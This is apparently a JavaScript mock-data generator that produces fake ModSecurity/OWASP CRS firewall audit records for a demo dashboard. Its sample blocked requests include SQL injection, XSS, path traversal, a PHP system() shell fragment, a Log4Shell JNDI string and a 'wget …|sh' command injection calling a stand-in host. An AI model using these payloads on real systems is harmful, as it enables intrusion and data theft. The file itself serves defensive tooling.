/** Made-up transactions for looking at the pages without a server: plausible, and hostile. */

const SENSORS = [
  ['fra-1', 'Frankfurt', 50.11, 8.68], ['iad-1', 'Ashburn', 39.04, -77.49], ['sin-1', 'Singapore', 1.35, 103.82],
  ['gru-1', 'São Paulo', -23.55, -46.63],
];
const PLACES = [
  ['US', 'United States', 'Dallas', 32.8, -96.8, 9], ['US', 'United States', 'San Jose', 37.3, -121.9, 6], ['CN', 'China', 'Shanghai', 31.2, 121.5, 8],
  ['CN', 'China', 'Beijing', 39.9, 116.4, 6], ['RU', 'Russia', 'Moscow', 55.7, 37.6, 6], ['NL', 'Netherlands', 'Amsterdam', 52.4, 4.9, 5],
  ['DE', 'Germany', 'Nuremberg', 49.4, 11.1, 4], ['BR', 'Brazil', 'Rio de Janeiro', -22.9, -43.2, 4], ['IN', 'India', 'Mumbai', 19.1, 72.9, 5],
  ['VN', 'Vietnam', 'Hanoi', 21, 105.8, 3], ['JP', 'Japan', 'Tokyo', 35.7, 139.7, 3], ['KR', 'South Korea', 'Seoul', 37.6, 127, 3],
  ['AU', 'Australia', 'Sydney', -33.9, 151.2, 2], ['ZA', 'South Africa', 'Johannesburg', -26.2, 28, 2], ['NG', 'Nigeria', 'Lagos', 6.5, 3.4, 2],
  ['IR', 'Iran', 'Tehran', 35.7, 51.4, 3], ['UA', 'Ukraine', 'Kyiv', 50.5, 30.5, 2], ['AR', 'Argentina', 'Buenos Aires', -34.6, -58.4, 2],
  ['ID', 'Indonesia', 'Jakarta', -6.2, 106.8, 3], ['GB', 'United Kingdom', 'London', 51.5, -0.1, 3], ['CA', 'Canada', 'Montreal', 45.5, -73.6, 2], ['NZ', 'New Zealand', 'Auckland', -36.8, 174.8, 1],
];
const ATTACKS = [
  ['sqli', 9, "/shop/item?id=1%27%20OR%20%271%27=%271", 942100, 'SQL Injection Attack Detected via libinjection'],
  ['sqli', 4, '/search?q=1 UNION SELECT user,password FROM users--', 942190, 'Detects MSSQL code execution and information gathering attempts'],
  ['xss', 7, '/?q=<script>window.__pwned=1</script>', 941100, 'XSS Attack Detected via libinjection'],
  ['xss', 3, '/c?n="><img src=x onerror=window.__pwned=1>', 941160, 'NoScript XSS InjectionChecker: HTML Injection'],
  ['rce', 5, '/cgi-bin/;wget http://198.51.100.7/x.sh|sh', 932100, 'Remote Command Execution: Unix Command Injection'],
  ['lfi', 7, '/download?file=../../../../etc/passwd\u0000.png', 930120, 'OS File Access Attempt'],
  ['lfi', 4, '/.git/config', 930130, 'Restricted File Access Attempt'],
  ['scanner', 8, '/wp-login.php', 913100, 'Found User-Agent associated with security scanner'],
  ['scanner', 3, '/.env', 913100, 'Found User-Agent associated with security scanner'],
  ['protocol', 4, '/\u202Egpj.exe?a=\u0000\u001b[31mred\u001b[0m', 920270, 'Invalid character in request (null character)'],
  ['php', 3, '/index.php?x=<?php system($_GET[0]);', 933100, 'PHP Injection Attack: PHP Open Tag Found'],
  ['java', 2, '/?x=${jndi:ldap://198.51.100.9/a}', 944150, 'Potential Remote Command Execution: Log4j / Log4shell'],
  ['rfi', 1, '/page?inc=http://198.51.100.8/s.txt?', 931100, 'Possible Remote File Inclusion (RFI) Attack'],
  ['other', 1, '/ok?z=\uFFFD\uFFFDa\u200b\uFEFFb\u{E0041}', 980000, 'Custom rule'],
];

let seed = 42;
export function random() {
  seed = (seed * 1103515245 + 12345) % 2147483648;
  return seed / 2147483648;
}
const pick = (list, weight) => {
  let at = random() * list.reduce((sum, entry) => sum + entry[weight], 0);
  return list.find((entry) => (at -= entry[weight]) < 0) ?? list[0];
};

export const sensors = () =>
  SENSORS.map(([name, label, latitude, longitude]) => ({
    name, label, latitude, longitude, position: 'set', is_demo: true, is_enabled: true, last_entry_at: new Date().toISOString(),
  }));

let counter = 7_300_000_000_000_000n;
export function makeRow(at_ms) {
  const place = pick(PLACES, 5);
  const attack = pick(ATTACKS, 1);
  const sensor = SENSORS[Math.floor(random() * SENSORS.length)];
  const inside = random() < 0.04;
  counter += 7n;
  const at = new Date(at_ms).toISOString().replace('Z', '000Z');
  return {
    id: String(counter), sensor: sensor[0], at, received_at: at, is_skewed: random() < 0.02, unique_id: `Z${counter.toString(36)}AAAB`,
    client: { address: inside ? '10.0.3.7' : random() < 0.1 ? `2001:db8:${Math.floor(random() * 65535).toString(16)}::${Math.floor(random() * 99)}` : `${Math.floor(random() * 190) + 20}.${Math.floor(random() * 255)}.${Math.floor(random() * 255)}.${Math.floor(random() * 255)}`, port: 40000 + Math.floor(random() * 9999) },
    place: inside ? { kind: 'internal', country: null, country_name: null, city: null, latitude: null, longitude: null } : { kind: 'city', country: place[0], country_name: place[1], city: place[2], latitude: place[3] + random(), longitude: place[4] + random() },
    method: random() < 0.75 ? 'GET' : 'POST', host: 'shop.example.org', uri: attack[2], status: random() < 0.8 ? 403 : 200, category: attack[0], severity: 2,
    score: 5 * (1 + Math.floor(random() * 4)), intercepted: random() < 0.82, verdict: `Blocked: ${attack[4]} (${attack[3]})`,
    rule_ids: [attack[3], 949110, 980170], defect_count: random() < 0.05 ? 1 : 0, is_demo: true,
  };
}

export function detailOf(row, newer, older) {
  const message = ATTACKS.find((attack) => attack[3] === row.rule_ids[0])?.[4] ?? 'Rule';
  const rule = (rule_id, text, extra) => ({
    rule_id, message: text, data: null, severity: 2, tags: [], file: '/etc/modsecurity/crs/rules/REQUEST-942-APPLICATION-ATTACK-SQLI.conf', line: 66, revision: null, version: 'OWASP_CRS/4.9.0', phase: 2, target: null, operator: null, disruptive: false, ...extra,
  });
  return {
    row,
    transaction: {
      format: 'modsecurity2-native', unique_id: row.unique_id, occurred_at: row.at, zone: 'assumed', client: row.client, server: { address: '10.0.0.5', port: 443 },
      request: { method: row.method, uri: row.uri, protocol: 'HTTP/1.1', headers: [['Host', row.host], ['User-Agent', 'Mozilla/5.0 sqlmap/1.7 \u202Eevil'], ['Cookie', 'session=abc; x=\u0007bell'], ['X-Long', 'A'.repeat(900)]], body: { text: 'user=admin&pass=%27+or+1%3D1\n<script>window.__pwned=1</script>\n' + '\u0000'.repeat(50) + 'x'.repeat(6000), size: 6200, truncated: true } },
      response: { status: row.status, protocol: 'HTTP/1.1', headers: [['Content-Type', 'text/html'], ['Content-Length', '199']], body: null },
      matches: [
        rule(920350, 'Host header is a numeric IP address', { severity: 4, target: 'REQUEST_HEADERS:Host', data: '203.0.113.5', tags: ['attack-protocol', 'paranoia-level/1'] }),
        rule(row.rule_ids[0], message, { target: 'ARGS:id', operator: 'detectSQLi', data: `Matched Data: 1' OR '1'='1\u202E\u0000 found within ARGS:id: ${row.uri}`, tags: ['application-multi', 'language-multi', `attack-${row.category}`, 'paranoia-level/1', 'OWASP_CRS', 'capec/1000/152/248/66'] }),
        rule(949110, 'Inbound Anomaly Score Exceeded (Total Score: 10)', { severity: 0, disruptive: true, target: 'TX:blocking_inbound_anomaly_score', operator: 'Ge 5', tags: ['anomaly-evaluation'] }),
        rule(980170, 'Anomaly Scores: (Inbound Scores: blocking=10, detection=10, per_pl=10-0-0-0, threshold=5)', { severity: null, phase: 5 }),
      ],
      intercepted: row.intercepted, intercept: { status: 403, phase: 2, rule_id: 949110 }, engine_mode: 'ENABLED', producer: 'ModSecurity for Apache/2.9.7 (http://www.modsecurity.org/)', ruleset: 'OWASP_CRS/4.9.0',
      anomaly: { inbound: row.score, outbound: 0, threshold: 5, by_category: {}, by_paranoia_level: [], outbound_threshold: 4, outbound_by_paranoia_level: [], detection_inbound: null, detection_outbound: null }, uploads: [], parts: 'ABCFHKZ',
      defects: [{ code: 'zone-assumed', where: 'A', detail: 'no zone in \u001b[1mthe time' }], source: null,
      place: row.place, network: { asn: 64500, organisation: 'Example Hosting \u200bLtd' }, category: row.category, verdict: `Blocked: ${message} in the argument “id” (rule ${row.rule_ids[0]}), anomaly score ${row.score} of 5.`, fingerprint: null,
    },
    parts: [
      { letter: 'A', name: 'audit log header', size: 90, text: `[23/Nov/2026:05:49:18 +0000] ${row.unique_id} ${row.client.address} 40112 10.0.0.5 443\n`, truncated: false },
      { letter: 'B', name: 'request headers', size: 200, text: `${row.method} ${row.uri} HTTP/1.1\nHost: ${row.host}\nUser-Agent: sqlmap\n`, truncated: false },
      { letter: 'F', name: 'response headers', size: 60, text: 'HTTP/1.1 403 Forbidden\nContent-Type: text/html\n', truncated: false },
      { letter: 'H', name: 'audit log trailer', size: 400, text: 'Message: Access denied with code 403 (phase 2).\nEngine-Mode: "ENABLED"\n', truncated: true },
      { letter: 'Z', name: 'end', size: 0, text: '', truncated: false },
    ],
    variants: [], size_bytes: 4211, digest: 'ab'.repeat(32), newer, older, peer: null, zone_offset_s: null,
    may_see_payload: true, has_payload: true, payload_removed_at: null, was_redacted: false, has_original: false,
    rules: [
      { role: 'scored', category: 'protocol', points: 3, paranoia_level: 1, is_outbound: false },
      { role: 'scored', category: row.category, points: 5, paranoia_level: 1, is_outbound: false },
      { role: 'evaluated', category: null, points: 0, paranoia_level: null, is_outbound: false },
      { role: 'evaluated', category: null, points: 0, paranoia_level: null, is_outbound: false },
    ],
    worked_out: { inbound: 8, outbound: 0, by_category: { protocol: 3, [row.category]: 5 }, by_paranoia_level: [8, 0, 0, 0], outbound_by_paranoia_level: [0, 0, 0, 0] },
  };
}
